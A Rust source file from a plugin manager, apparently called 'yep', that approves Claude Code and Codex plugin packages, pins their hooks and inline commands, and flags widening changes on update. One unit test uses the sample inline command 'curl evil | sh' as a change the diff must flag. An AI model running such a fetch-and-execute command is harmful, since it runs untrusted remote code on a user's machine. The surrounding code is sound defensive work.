//! What yep approves from a Claude Code, Codex or Agent Plugins package: a yep [`Manifest`]
//! for the machinery every package goes through (commands, MCP servers, the hooks' grants),
//! and a [`ClaudePin`] for what only this kind has (each hook's command line, each command's
//! inline commands and rules), pinned in the lock and diffed on update.

use super::{ClaudePlugin, CommandHook, Overrides, PluginKind};
use crate::manifest::{
    CommandArg, CommandDef, Facet, HookDef, HookEvent, MAX_HOOK_TIMEOUT_MS, Manifest,
    ManifestError, OnError, valid_item_name, valid_name,
};
use crate::text::escape;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};
use std::collections::BTreeMap;
use std::path::Path;

/// One command as pinned: its file, its rules and the inline commands it runs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PinnedCommand {
    pub name: String,
    pub file: String,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allowed_tools: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub inline: Vec<String>,
}

impl PinnedCommand {
    /// Its inline commands that none of its `allowed-tools` rules permit and that do not only
    /// read (Claude Code runs those with no rule: [`super::readonly`]).
    pub fn not_permitted(&self) -> Vec<&str> {
        let rules: Vec<_> = self
            .allowed_tools
            .iter()
            .filter_map(|r| super::PermissionRule::parse(r))
            .collect();
        self.inline
            .iter()
            .filter(|c| !super::rules::any_allows(&rules, c) && !super::readonly::is_read_only(c))
            .map(String::as_str)
            .collect()
    }
}

/// One agent as pinned: listed, never run.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PinnedAgent {
    pub name: String,
    /// Its definition, relative to the package (absent in locks written before it was kept).
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub file: String,
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub description: String,
}

/// What a Claude Code, Codex or Agent Plugins package was approved with beyond its manifest,
/// stored in the lock (`LockEntry.claude`). Its presence is what says the package is one.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ClaudePin {
    pub kind: PluginKind,
    /// A Claude Code plugin with no `.claude-plugin/plugin.json` (its layout, or its
    /// marketplace entry, says what it has).
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub manifest_less: bool,
    /// The command hooks yep runs, in file order.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub hooks: Vec<CommandHook>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub commands: Vec<PinnedCommand>,
    /// Where skills are read from, relative to the package.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub skill_roots: Vec<String>,
    /// The skills found there, by name.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub skills: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub agents: Vec<PinnedAgent>,
    /// LSP servers it declares, which yep does not run.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub lsp_servers: Vec<String>,
    /// Manifest keys yep does not read.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub ignored: Vec<String>,
    /// The marketplace it was installed through: `yep update` resolves it there again, and
    /// its files are read with what the entry adds.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub marketplace: Option<MarketplacePin>,
}

/// Where a plugin installed as `<plugin>@<marketplace>` was listed, and what its entry adds to
/// its own files.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct MarketplacePin {
    /// The marketplace, as `yep marketplace list` names it.
    pub name: String,
    /// The entry the plugin was installed from (its name after any rename).
    pub entry: String,
    /// The entry's fields that describe the plugin ([`Overrides::fields`]), as JSON text (a
    /// lock is TOML, which has no null).
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub overrides: String,
}

impl MarketplacePin {
    /// The pin of `entry` in marketplace `name`, with the fields it adds.
    pub fn new(name: &str, entry: &str, overrides: &Overrides) -> MarketplacePin {
        let overrides = match overrides.fields.is_empty() {
            true => String::new(),
            false => Value::Object(overrides.fields.clone()).to_string(),
        };
        MarketplacePin {
            name: name.to_string(),
            entry: entry.to_string(),
            overrides,
        }
    }

    /// What the entry adds, as recorded; none when the record is not a JSON object (a lock
    /// may be corrupt or planted: what it adds is then checked against the approval anyway).
    pub fn overrides(&self) -> Overrides {
        let fields = serde_json::from_str::<Value>(&self.overrides)
            .ok()
            .and_then(|v| match v {
                Value::Object(fields) => Some(fields),
                _ => None,
            })
            .unwrap_or_default();
        Overrides {
            fields,
            fallback_name: None,
        }
    }
}

/// What [`ClaudePlugin::approved`] gives: the manifest yep holds it to, its pin, and notes
/// (escaped) on what was left out and why.
#[derive(Debug, Clone)]
pub struct Approval {
    pub manifest: Manifest,
    pub pin: ClaudePin,
    pub notes: Vec<String>,
}

/// Why yep will not approve a plugin. Every variant names it.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum ApproveError {
    #[error(
        "plugin name \"{name}\" is not one yep can use: names are A-Z a-z 0-9 _ -, at most 64 characters, without `__`"
    )]
    Name { name: String },
    #[error("{name} offers only {offers}, which yep does not run")]
    NothingYepRuns { name: String, offers: String },
    #[error("plugin {name} does not make a manifest yep accepts: {message}")]
    Invalid { name: String, message: String },
}

impl ClaudePlugin {
    /// The manifest and pin yep approves for this plugin, mapped field by field (yep's manifest
    /// is strict; nothing passes through unread) and re-parsed with [`Manifest::parse`], so
    /// every check a `plugin.json` gets holds.
    pub fn approved(&self) -> Result<Approval, ApproveError> {
        let name = escape(&self.name).into_owned();
        if !valid_name(&self.name) || self.name.contains("__") {
            return Err(ApproveError::Name { name });
        }
        let mut notes = self.notes.clone();
        let (commands, pinned_commands) = self.approved_commands(&mut notes);
        let mcp_servers = self.approved_mcp_servers(&mut notes);
        let has = |event: &str| self.hooks.iter().any(|h| h.event == event);
        let observes = self
            .hooks
            .iter()
            .any(|h| !["PreToolUse", "PostToolUse", "SessionStart"].contains(&h.event.as_str()));

        let facet = Facet {
            config_schema: self.config_schema(&mcp_servers, &mut notes),
            commands,
            mcp_servers,
            hooks: self.tool_hooks(),
            dynamic_prompt: has("SessionStart"),
            // A PreToolUse hook may answer "ask".
            ui_ask: has("PreToolUse"),
            trace: observes,
            skills: !self.skills.is_empty(),
            ..Facet::default()
        };
        let contributes = !facet.commands.is_empty()
            || !facet.mcp_servers.is_empty()
            || !self.hooks.is_empty()
            || facet.skills;
        // LSP servers are something to install and pin (an LSP-only plugin, as marketplaces
        // list them): the approval holds nothing yep runs, and the pin holds the servers.
        // Agents alone, or nothing at all, are refused.
        if !contributes && self.lsp_servers.is_empty() {
            let agents: Vec<&str> = self.agents.iter().map(|a| a.name.as_str()).collect();
            return Err(ApproveError::NothingYepRuns {
                name,
                offers: offers(&[], &agents),
            });
        }
        let manifest = Manifest {
            name: self.name.clone(),
            description: self.description.clone(),
            version: self.version.clone(),
            yolop: facet,
            sandbox: Default::default(),
        };
        let manifest = self.parse_approval(&manifest, &name)?;

        let pin = self.pin(pinned_commands);
        if !pin.lsp_servers.is_empty() {
            notes.push(format!(
                "LSP servers left out ({}): yep has no LSP client",
                pin.lsp_servers
                    .iter()
                    .map(|s| escape(s).into_owned())
                    .collect::<Vec<_>>()
                    .join(", ")
            ));
        }
        Ok(Approval {
            manifest,
            pin,
            notes,
        })
    }

    /// The commands yep can show, each with its pin; those it cannot, or a second of a name,
    /// are left out with a note.
    fn approved_commands(&self, notes: &mut Vec<String>) -> (Vec<CommandDef>, Vec<PinnedCommand>) {
        let mut commands = Vec::new();
        let mut pinned_commands = Vec::new();
        for c in &self.commands {
            if !valid_item_name(&c.name) {
                notes.push(format!(
                    "command \"{}\" left out: not a name yep can show (A-Z a-z 0-9 _ . -)",
                    escape(&c.name)
                ));
                continue;
            }
            if commands.iter().any(|d: &CommandDef| d.name == c.name) {
                notes.push(format!(
                    "command \"{}\" ({}) left out: a command of that name came first",
                    escape(&c.name),
                    escape(&c.file)
                ));
                continue;
            }
            // Its `argument-hint` describes its one argument, the argument text.
            let args = c
                .argument_hint
                .iter()
                .map(|hint| CommandArg {
                    name: "arguments".into(),
                    description: hint.clone(),
                    required: false,
                })
                .collect();
            commands.push(CommandDef {
                name: c.name.clone(),
                description: c.description.clone(),
                args,
            });
            pinned_commands.push(PinnedCommand {
                name: c.name.clone(),
                file: c.file.clone(),
                allowed_tools: c.allowed_tools.clone(),
                inline: c.inline.clone(),
            });
        }
        (commands, pinned_commands)
    }

    /// The MCP servers of a name yep can use; the others are left out with a note.
    fn approved_mcp_servers(
        &self,
        notes: &mut Vec<String>,
    ) -> BTreeMap<String, crate::manifest::McpServer> {
        let mut mcp_servers = BTreeMap::new();
        for (server, spec) in &self.mcp_servers {
            if valid_item_name(server) && !server.contains("__") {
                mcp_servers.insert(server.clone(), spec.clone());
            } else {
                notes.push(format!(
                    "MCP server \"{}\" left out: not a name yep can use (A-Z a-z 0-9 _ . -, no `__`)",
                    escape(server)
                ));
            }
        }
        mcp_servers
    }

    /// The yep hooks that grant what its `PreToolUse` and `PostToolUse` hooks need: every
    /// tool, the longest timeout (clamped), failing open.
    fn tool_hooks(&self) -> Vec<HookDef> {
        let tool_hook = |event: HookEvent, claude: &str| {
            let timeouts = self.hooks.iter().filter(|h| h.event == claude);
            timeouts
                .map(|h| h.timeout() * 1000)
                .max()
                .map(|ms| HookDef {
                    event,
                    tool_name_glob: "*".into(),
                    timeout_ms: ms.min(MAX_HOOK_TIMEOUT_MS),
                    // Claude Code's hooks fail open: only an answer blocks.
                    on_error: OnError::Warn,
                })
        };
        [
            tool_hook(HookEvent::PreToolUse, "PreToolUse"),
            tool_hook(HookEvent::PostToolUse, "PostToolUse"),
        ]
        .into_iter()
        .flatten()
        .collect()
    }

    /// `manifest` re-parsed as an approval, so every check a `plugin.json` gets holds.
    fn parse_approval(&self, manifest: &Manifest, name: &str) -> Result<Manifest, ApproveError> {
        let invalid = |message: String| ApproveError::Invalid {
            name: name.to_string(),
            message,
        };
        let text = serde_json::to_string(manifest).map_err(|e| invalid(e.to_string()))?;
        let file = self.manifest_file.unwrap_or("its directory layout");
        Manifest::parse_approval(&text, Path::new(file)).map_err(|e| match e {
            ManifestError::Invalid { message, .. } => invalid(message),
            other => invalid(other.to_string()),
        })
    }

    /// What only a plugin of this kind has, pinned in the lock: its hooks' command lines, its
    /// commands' rules and inline commands, its skills, agents and LSP servers.
    fn pin(&self, pinned_commands: Vec<PinnedCommand>) -> ClaudePin {
        ClaudePin {
            kind: self.kind,
            manifest_less: self.manifest_file.is_none(),
            hooks: self.hooks.clone(),
            commands: pinned_commands,
            skill_roots: if self.skills.is_empty() {
                Vec::new()
            } else {
                self.skill_roots.clone()
            },
            skills: self.skills.iter().map(|s| s.name.clone()).collect(),
            agents: self
                .agents
                .iter()
                .map(|a| PinnedAgent {
                    name: a.name.clone(),
                    file: a.file.clone(),
                    description: a.description.clone(),
                })
                .collect(),
            lsp_servers: self.lsp_servers.iter().map(|l| l.name.clone()).collect(),
            ignored: self.ignored.keys().cloned().collect(),
            marketplace: None,
        }
    }

    /// `userConfig` as yep's `config_schema`: each option a property, a sensitive one a secret,
    /// each given to hooks as `CLAUDE_PLUGIN_OPTION_<KEY>`. An option yep cannot name is noted.
    ///
    /// A `${VAR}` an MCP server's env or headers expand becomes a secret field of that name,
    /// not required (it may come from the environment, as in Claude Code), so `yep secret set`
    /// can hold it; the package's own paths (`${CLAUDE_PLUGIN_ROOT}` and the like) are not.
    fn config_schema(
        &self,
        mcp_servers: &BTreeMap<String, crate::manifest::McpServer>,
        notes: &mut Vec<String>,
    ) -> Option<Value> {
        let mut properties = Map::new();
        let mut required = Vec::new();
        for option in &self.user_config {
            let env = format!("CLAUDE_PLUGIN_OPTION_{}", option.key.to_ascii_uppercase());
            let env_ok = env.len() <= crate::manifest::MAX_NAME_LEN
                && env.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
            if !valid_item_name(&option.key) || !env_ok {
                notes.push(format!(
                    "user config option \"{}\" left out: not a name yep can use",
                    escape(&option.key)
                ));
                continue;
            }
            let kind = match option.kind.as_str() {
                "number" => "number",
                "boolean" => "boolean",
                _ => "string",
            };
            let mut property = json!({"type": kind, "env": env});
            if !option.description.is_empty() {
                property["description"] = Value::String(option.description.clone());
            }
            if option.sensitive {
                property["secret"] = Value::Bool(true);
            }
            if option.required {
                required.push(Value::String(option.key.clone()));
            }
            properties.insert(option.key.clone(), property);
        }
        for server in mcp_servers.values() {
            for var in expanded_vars(server.env.values().chain(server.headers.values())) {
                properties
                    .entry(var)
                    .or_insert_with(|| json!({"type": "string", "secret": true}));
            }
        }
        if properties.is_empty() {
            return None;
        }
        let mut schema = json!({"type": "object", "properties": properties});
        if !required.is_empty() {
            schema["required"] = Value::Array(required);
        }
        Some(schema)
    }
}

/// What a plugin yep runs nothing of has instead (escaped): its LSP servers and agents.
fn offers(lsp: &[&str], agents: &[&str]) -> String {
    let names = |items: &[&str]| {
        items
            .iter()
            .map(|s| escape(s).into_owned())
            .collect::<Vec<_>>()
            .join(", ")
    };
    let mut parts = Vec::new();
    match lsp.len() {
        0 => {}
        1 => parts.push(format!("an LSP server ({})", names(lsp))),
        _ => parts.push(format!("LSP servers ({})", names(lsp))),
    }
    if !agents.is_empty() {
        parts.push(format!("agents ({})", names(agents)));
    }
    if parts.is_empty() {
        return "nothing yep can use (no commands, skills, command hooks or MCP servers it can take)"
            .into();
    }
    parts.join(" and ")
}

/// Variables a package's own paths fill in, never secrets.
const PACKAGE_VARS: [&str; 5] = [
    "CLAUDE_PLUGIN_ROOT",
    "CLAUDE_PLUGIN_DATA",
    "CLAUDE_PROJECT_DIR",
    "PLUGIN_ROOT",
    "PLUGIN_DATA",
];

/// The `${VAR}` and `${VAR:-default}` names `texts` expand, in order of first use: names of
/// environment variables only, the package's own paths left out.
fn expanded_vars<'a>(texts: impl Iterator<Item = &'a String>) -> Vec<String> {
    let mut vars: Vec<String> = Vec::new();
    for text in texts {
        let mut rest = text.as_str();
        while let Some(start) = rest.find("${") {
            let after = &rest[start + 2..];
            let Some(end) = after.find('}') else { break };
            let inner = &after[..end];
            let name = inner.split_once(":-").map_or(inner, |(name, _)| name);
            let env_name = name.len() <= crate::manifest::MAX_NAME_LEN
                && name
                    .bytes()
                    .next()
                    .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
            if env_name && !PACKAGE_VARS.contains(&name) && !vars.iter().any(|v| v == name) {
                vars.push(name.to_string());
            }
            rest = &after[end + 1..];
        }
    }
    vars
}

/// A hook as the user approves it: a change in any part reads as another hook.
fn hook_line(h: &CommandHook) -> String {
    let mut line = escape(&h.event).into_owned();
    if let Some(m) = h.matcher.as_deref().filter(|m| !m.is_empty() && *m != "*") {
        line.push_str(&format!(" on {}", escape(m)));
    }
    if let Some(rule) = &h.if_rule {
        line.push_str(&format!(" if {}", escape(rule)));
    }
    let command = std::iter::once(h.command.as_str())
        .chain(h.args.iter().map(String::as_str))
        .collect::<Vec<_>>()
        .join(" ");
    line.push_str(&format!(
        ": `{}` (timeout {} s",
        escape(&command),
        h.timeout()
    ));
    if h.is_async {
        line.push_str(", async");
    }
    line.push(')');
    line
}

impl ClaudePin {
    /// What it offers that yep does not run (escaped), for a plugin whose approval runs
    /// nothing: its LSP servers and agents.
    pub fn not_run(&self) -> String {
        let lsp: Vec<&str> = self.lsp_servers.iter().map(String::as_str).collect();
        let agents: Vec<&str> = self.agents.iter().map(|a| a.name.as_str()).collect();
        offers(&lsp, &agents)
    }

    /// How `new` differs from this approved pin, as diff lines; true when it widens. A new
    /// hook, a hook whose command, matcher, rule or timeout changed, a new inline command, a
    /// new `allowed-tools` rule, a new skill and a new skill root widen; agents and LSP servers (which yep
    /// does not run) do not.
    pub fn diff(&self, new: &ClaudePin) -> (Vec<String>, bool) {
        let mut lines = Vec::new();
        let mut widened = false;
        let mut set = |kind: &str, before: Vec<String>, after: Vec<String>, widens: bool| {
            for added in after.iter().filter(|a| !before.contains(a)) {
                let mark = if widens { '+' } else { '~' };
                lines.push(format!("{mark} {kind} {added}"));
                widened |= widens;
            }
            for removed in before.iter().filter(|b| !after.contains(b)) {
                lines.push(format!("- {kind} {removed}"));
            }
        };
        if self.kind != new.kind {
            set(
                "kind",
                vec![self.kind.label().into()],
                vec![new.kind.label().into()],
                true,
            );
        }
        set(
            "hook",
            self.hooks.iter().map(hook_line).collect(),
            new.hooks.iter().map(hook_line).collect(),
            true,
        );
        let per_command = |pin: &ClaudePin, inline: bool| -> Vec<String> {
            pin.commands
                .iter()
                .flat_map(|c| {
                    let items = if inline { &c.inline } else { &c.allowed_tools };
                    items
                        .iter()
                        .map(|i| format!("/{} `{}`", escape(&c.name), escape(i)))
                        .collect::<Vec<_>>()
                })
                .collect()
        };
        set(
            "inline command",
            per_command(self, true),
            per_command(new, true),
            true,
        );
        set(
            "allowed-tools rule",
            per_command(self, false),
            per_command(new, false),
            true,
        );
        let escaped = |items: &[String]| -> Vec<String> {
            items.iter().map(|i| escape(i).into_owned()).collect()
        };
        set(
            "skill root",
            escaped(&self.skill_roots),
            escaped(&new.skill_roots),
            true,
        );
        set("skill", escaped(&self.skills), escaped(&new.skills), true);
        let agents = |pin: &ClaudePin| -> Vec<String> {
            pin.agents
                .iter()
                .map(|a| escape(&a.name).into_owned())
                .collect()
        };
        set("agent", agents(self), agents(new), false);
        set(
            "LSP server (not run)",
            escaped(&self.lsp_servers),
            escaped(&new.lsp_servers),
            false,
        );
        // What the entry adds is diffed as the parts it makes; where it is listed is said.
        let listed = |pin: &ClaudePin| -> Vec<String> {
            pin.marketplace
                .iter()
                .map(|m| format!("{} in marketplace {}", escape(&m.entry), escape(&m.name)))
                .collect()
        };
        set("entry", listed(self), listed(new), false);
        (lines, widened)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hook(event: &str, command: &str) -> CommandHook {
        CommandHook {
            event: event.into(),
            matcher: None,
            command: command.into(),
            args: Vec::new(),
            timeout_s: None,
            if_rule: None,
            is_async: false,
        }
    }

    fn pin() -> ClaudePin {
        ClaudePin {
            kind: PluginKind::Claude,
            manifest_less: false,
            hooks: vec![hook("SessionStart", "start.sh")],
            commands: vec![PinnedCommand {
                name: "commit".into(),
                file: "commands/commit.md".into(),
                allowed_tools: vec!["Bash(git status:*)".into()],
                inline: vec!["git status".into()],
            }],
            skill_roots: Vec::new(),
            skills: Vec::new(),
            agents: Vec::new(),
            lsp_servers: Vec::new(),
            ignored: Vec::new(),
            marketplace: None,
        }
    }

    #[test]
    fn a_new_hook_or_inline_command_widens_and_a_new_agent_does_not() {
        let old = pin();
        assert_eq!(old.diff(&old), (Vec::new(), false));

        let mut agent = old.clone();
        agent.agents.push(PinnedAgent {
            name: "reviewer".into(),
            file: "agents/reviewer.md".into(),
            description: String::new(),
        });
        assert_eq!(old.diff(&agent), (vec!["~ agent reviewer".into()], false));

        let mut more = old.clone();
        more.hooks.push(hook("PreToolUse", "guard.sh"));
        let (lines, widened) = old.diff(&more);
        assert!(widened);
        assert_eq!(lines, ["+ hook PreToolUse: `guard.sh` (timeout 60 s)"]);

        for change in [
            |h: &mut CommandHook| h.command = "start.sh --evil".into(),
            |h: &mut CommandHook| h.matcher = Some("startup".into()),
            |h: &mut CommandHook| h.timeout_s = Some(600),
        ] {
            let mut changed = old.clone();
            change(&mut changed.hooks[0]);
            let (lines, widened) = old.diff(&changed);
            assert!(widened, "{lines:?}");
            assert_eq!(lines.len(), 2, "{lines:?}");
        }

        let mut inline = old.clone();
        inline.commands[0].inline.push("curl evil | sh".into());
        let (lines, widened) = old.diff(&inline);
        assert!(widened);
        assert_eq!(lines, ["+ inline command /commit `curl evil | sh`"]);

        let mut fewer = old.clone();
        fewer.hooks.clear();
        let (lines, widened) = old.diff(&fewer);
        assert!(!widened);
        assert_eq!(lines, ["- hook SessionStart: `start.sh` (timeout 60 s)"]);
    }

    #[test]
    fn an_mcp_servers_expanded_variables_become_secret_fields_and_its_own_paths_do_not() {
        let texts = [
            "Bearer ${GITHUB_TOKEN}".to_string(),
            "${CLAUDE_PLUGIN_ROOT}/bin ${REGION:-us} ${user_config.key} ${GITHUB_TOKEN}".into(),
            "${unclosed".into(),
        ];
        assert_eq!(expanded_vars(texts.iter()), ["GITHUB_TOKEN", "REGION"]);
    }

    #[test]
    fn inline_commands_outside_allowed_tools_are_named() {
        let mut c = pin().commands.remove(0);
        c.inline.push("git diff HEAD".into());
        c.inline.push("git diff HEAD > out".into());
        // Read-only ones run as they do in Claude Code; the rest need a rule.
        assert_eq!(c.not_permitted(), ["git diff HEAD > out"]);
    }

    #[test]
    fn a_pin_reads_back_as_it_was_written() {
        let p = pin();
        let text = serde_json::to_string(&p).unwrap();
        assert!(text.contains("\"kind\":\"claude\""), "{text}");
        assert_eq!(serde_json::from_str::<ClaudePin>(&text).unwrap(), p);
    }
}
